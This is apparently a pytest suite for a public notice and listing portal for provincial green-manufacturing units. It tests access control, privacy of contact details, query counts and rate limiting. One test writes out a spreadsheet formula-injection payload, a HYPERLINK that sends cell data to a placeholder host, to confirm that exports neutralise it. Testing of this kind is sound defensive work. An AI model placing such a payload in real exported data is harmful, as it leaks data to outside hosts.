"""What anybody reads of the notices and lists of a province, and how often."""

from datetime import date, timedelta
from io import BytesIO

import pytest
from openpyxl import load_workbook

from applications.models import Listing, Notice
from greenmfg import clock
from tests.provincial import ProvincialStory


@pytest.fixture
def provincial(in_hunan):
    return ProvincialStory(in_hunan)


def test_a_published_notice_is_read_by_anybody(provincial, browse):
    notice = provincial.noticed
    anybody = browse("")
    listed = anybody.get("/public/hunan/notices/").content.decode()
    assert "2026年度省级绿色制造单位评价确认公示名单" in listed
    page = anybody.get(f"/public/hunan/notices/{notice.pk}/").content.decode()
    for text in ("湘江新材料有限公司", "长沙市", notice.sha256, "公示中", "5 个工作日"):
        assert text in page
    with clock.override(notice.ends_at + timedelta(days=1)):
        assert "公示期满" in anybody.get(f"/public/hunan/notices/{notice.pk}/").content.decode()


def test_attack_024_the_public_reads_what_was_published_and_no_more(provincial, browse):
    draft, anybody = provincial.drafted, browse("")
    assert anybody.get(f"/public/hunan/notices/{draft.pk}/").status_code == 404
    assert "评价确认公示名单" not in anybody.get("/public/hunan/notices/").content.decode()
    notice = provincial.noticed
    assert anybody.get(f"/public/guangdong/notices/{notice.pk}/").status_code == 404
    page = anybody.get(f"/public/hunan/notices/{notice.pk}/").content.decode()
    contact = provincial.world.owner.user
    number = provincial.selected.number
    for secret in (contact.phone, contact.email, "0731-88886666", "li@example.cn", number, "陈立"):
        assert secret not in page


def test_a_notice_tells_what_was_frozen_after_the_unit_is_renamed(provincial, browse):
    notice, unit = provincial.noticed, provincial.world.owner.organization
    unit.name = "改名有限公司"
    unit.save()
    page = browse("").get(f"/public/hunan/notices/{notice.pk}/").content.decode()
    assert "湘江新材料有限公司" in page
    assert "改名有限公司" not in page


@pytest.mark.parametrize("number", [1, 3, 40])
def test_the_notices_cost_the_same_for_any_number(provincial, browse, queries, number):
    Notice.objects.bulk_create(
        Notice(
            tenant=provincial.world.hunan, round=provincial.round, status="open", body="{}",
            opens_on=date(2026, 9, 1), closes_on=date(2026, 9, 8),
        )
        for _n in range(number)
    )  # fmt: skip
    anybody, approver = browse(""), browse("province_approver")
    approver.get("/notices/")  # the first request puts the session on record
    assert queries(lambda: anybody.get("/public/hunan/notices/")) == 4
    assert queries(lambda: approver.get("/notices/")) == 7


@pytest.mark.parametrize("number", [1, 3, 40])
def test_a_notice_costs_the_same_for_any_number_of_objections(provincial, browse, queries, number):
    for _n in range(number):
        provincial.object_to()
    approver, page = browse("province_approver"), f"/notices/{provincial.noticed.pk}/"
    approver.get(page)
    assert queries(lambda: approver.get(page)) == 12


def test_attack_078_a_list_is_taken_along_as_text(story, browse):
    formula = '=HYPERLINK("http://x/?"&A1)'
    story.list_unit(story.world.stranger)
    Listing.objects.bulk_create(
        Listing(
            tenant=story.world.hunan, honour="factory", level=level, uscc=f"{n:018}", name=formula,
            region=story.world.changsha, year=2025, document_number="1号", listed_on=date(2025, 12, 25),
        )
        for n, level in enumerate(["national", "creating"])
    )  # fmt: skip
    answer = browse("").get("/public/hunan/lists/workbook/?level=national")
    assert "attachment" in answer.headers["Content-Disposition"]
    head, *rows = load_workbook(BytesIO(answer.content)).active.iter_rows()
    assert [cell.value for cell in head][:2] == ["单位名称", "统一社会信用代码"]
    assert [(row[0].value, row[0].data_type) for row in rows] == [(formula, "s")]
    everything = load_workbook(BytesIO(browse("").get("/public/hunan/lists/workbook/").content)).active
    assert everything.max_row == 3  # the head and two published entries


def test_attack_083_who_tries_codes_is_slowed_down(world, browse, settings):
    settings.PUBLIC_REQUESTS_PER_MINUTE = 3
    anybody = browse("")
    tried = [anybody.get(f"/check/guess-{n}/").status_code for n in range(5)]
    assert tried == [404, 404, 404, 429, 429]
    assert anybody.get("/public/hunan/notices/").status_code == 200
    assert anybody.get("/check/guess-1/", REMOTE_ADDR="192.0.2.7").status_code == 404
